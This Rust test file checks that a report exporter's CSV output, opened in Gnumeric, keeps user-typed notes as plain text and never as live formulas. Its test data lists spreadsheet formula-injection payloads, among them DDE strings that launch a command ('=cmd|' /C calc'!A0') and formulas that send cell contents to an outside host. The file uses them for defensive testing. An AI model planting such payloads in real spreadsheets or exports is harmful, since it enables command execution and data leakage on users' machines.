//! Our CSV in a real spreadsheet program: Gnumeric reads it and writes a workbook, which is read back cell by cell.
//!
//! `cargo xtask test` brings the program and says where it is. What is proved: no cell has become a formula, every text
//! is what was typed (the program takes our apostrophe for what it is, “this is text”), and numbers are numbers.
#![allow(
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::unwrap_used,
    reason = "a test fails by panicking"
)]

use std::path::Path;
use std::process::{Command, Stdio};

use calamine::{Data, Range, Reader, Xlsx, open_workbook};
use windrose_assessment::{Answer, Assessment, Depth, Level, Response};
use windrose_questions::BANK;
use windrose_report::{Detail, EXAMPLES, Origin, Report, answers_csv, dimensions_csv};

/// What people type or paste.
const NOTES: [&str; 17] = [
    "=HYPERLINK(\"http://x.example\",\"y\")",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
    "ask \"Kim\", then: \"=1+1\"",
    "a,\"=1+1\",b",
    "two\nlines, the second\n=1+1",
    "a\tb",
    "Größe, naïve, Ærø, Łódź",
    "💠 👩‍🚀 注文",
    "＝1+1",
    "a;b;c",
    "“so” – it’s done",
];

/// What Gnumeric makes of a CSV file.
#[track_caller]
fn opened(csv: &str) -> (Range<Data>, Range<String>) {
    let folder = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("cargo has a folder for this");
    let (source, workbook) = (folder.path().join("report.csv"), folder.path().join("report.xlsx"));
    std::fs::write(&source, csv).expect("the folder can be written to");
    convert(&source, &workbook);
    let mut workbook: Xlsx<_> = open_workbook(&workbook).expect("ssconvert writes workbooks");
    let sheet = workbook.sheet_names().first().cloned().expect("a workbook has a sheet");
    let values = workbook.worksheet_range(&sheet).expect("the sheet can be read");
    (values, workbook.worksheet_formula(&sheet).expect("its formulas can be read"))
}

/// The program is told that it is CSV, as by choosing the file type; it finds out the encoding by itself.
#[track_caller]
fn convert(source: &Path, target: &Path) {
    let program = std::env::var("WINDROSE_SSCONVERT")
        .expect("WINDROSE_SSCONVERT is not set: run this check with `cargo xtask test`");
    let mut command = Command::new(program);
    command
        .arg("--import-type=Gnumeric_stf:stf_csvtab")
        .args([source, target])
        .env("LC_ALL", "C.UTF-8")
        .stdin(Stdio::null());
    let output = command.output().expect("ssconvert starts");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
}

fn column(sheet: &Range<Data>, name: &str) -> usize {
    let head = sheet.rows().next().expect("the table has a head");
    head.iter()
        .position(|cell| *cell == Data::String(name.to_owned()))
        .unwrap_or_else(|| panic!("no column {name} in {head:?}"))
}

/// Every question answered, with these notes in turn.
fn noted() -> Report {
    let mut assessment = Assessment::default();
    assessment.depth = Depth::Full;
    for ((index, (_, capability)), note) in BANK.capabilities().enumerate().zip(NOTES.into_iter().cycle()) {
        let level = Level::ALL[index % Level::ALL.len()];
        let answer = if index == 3 { Answer::NotApplicable } else { Answer::Level(level) };
        let text = || note.to_owned();
        let (note, reason, evidence_link) = (text(), text(), text());
        assessment
            .record(capability.slot, Response { answer, note, reason, evidence_link, ..Response::default() });
    }
    Report::new(&BANK, assessment, Origin::Local)
}

#[test]
fn what_people_type_stays_text() {
    let report = noted();
    let (sheet, formulas) = opened(&answers_csv(&report, Detail::ALL));
    let found: Vec<&String> =
        formulas.used_cells().map(|(_, _, formula)| formula).filter(|f| !f.is_empty()).collect();
    assert!(found.is_empty(), "formulas: {found:?}");
    assert_eq!(sheet.height(), 1 + BANK.capabilities().count());
    let (note, link, reason) =
        (column(&sheet, "note"), column(&sheet, "evidence_link"), column(&sheet, "reason"));
    for (row, typed) in sheet.rows().skip(1).zip(NOTES.into_iter().cycle()) {
        for at in [note, link] {
            assert_eq!(row[at], Data::String(typed.to_owned()));
        }
    }
    assert_eq!(sheet.rows().nth(4).expect("a row")[reason], Data::String(NOTES[3].to_owned()));
}

/// So that the test above can fail: this program runs what is not neutralised.
#[test]
fn what_is_not_neutralised_becomes_a_formula() {
    let (_, formulas) = opened("note\r\n=1+1\r\n");
    assert!(formulas.used_cells().any(|(_, _, formula)| formula == "1+1"), "{formulas:?}");
}

#[test]
fn numbers_are_numbers_and_names_are_whole() {
    let report = noted();
    let (sheet, _) = opened(&answers_csv(&report, Detail::default()));
    let (level, statement) = (column(&sheet, "level"), column(&sheet, "statement"));
    for (row, (_, capability)) in sheet.rows().skip(1).zip(BANK.capabilities()) {
        let answer = report.assessment.answer(capability.slot).level();
        assert_eq!(row[column(&sheet, "capability")], Data::String(capability.name.to_owned()));
        match answer {
            None => assert_eq!((&row[level], &row[statement]), (&Data::Empty, &Data::Empty)),
            Some(answer) => {
                assert_eq!(row[level], Data::Float(f64::from(answer.number())));
                let said = capability.levels[usize::from(answer.number())];
                assert_eq!(row[statement], Data::String(said.to_owned()));
            }
        }
    }
}

#[test]
fn the_dimensions_of_all_examples_come_through_exactly() {
    for example in EXAMPLES {
        let shared = windrose_exchange::share_link::decode(&BANK, example.link).expect("examples open");
        let report = Report::new(&BANK, shared.assessment, Origin::Example { story: example.story });
        let (sheet, formulas) = opened(&dimensions_csv(&report));
        assert!(formulas.used_cells().all(|(_, _, formula)| formula.is_empty()));
        let (low, high, name) =
            (column(&sheet, "index_low"), column(&sheet, "index_high"), column(&sheet, "dimension"));
        for (row, score) in sheet.rows().skip(1).zip(&report.scores.dimensions) {
            assert_eq!(row[name], Data::String(score.dimension.name.to_owned()));
            let expected = |end: Option<f64>| end.map_or(Data::Empty, Data::Float);
            let same = |found: &Data, expected: Data| match (found, expected) {
                (Data::Float(found), Data::Float(expected)) => (found - expected).abs() < 1e-9,
                (found, expected) => *found == expected,
            };
            assert!(
                same(&row[low], expected(score.index.map(|r| r.low))),
                "{}: {:?}",
                score.dimension.id,
                row[low]
            );
            assert!(
                same(&row[high], expected(score.index.map(|r| r.high))),
                "{}: {:?}",
                score.dimension.id,
                row[high]
            );
        }
    }
}
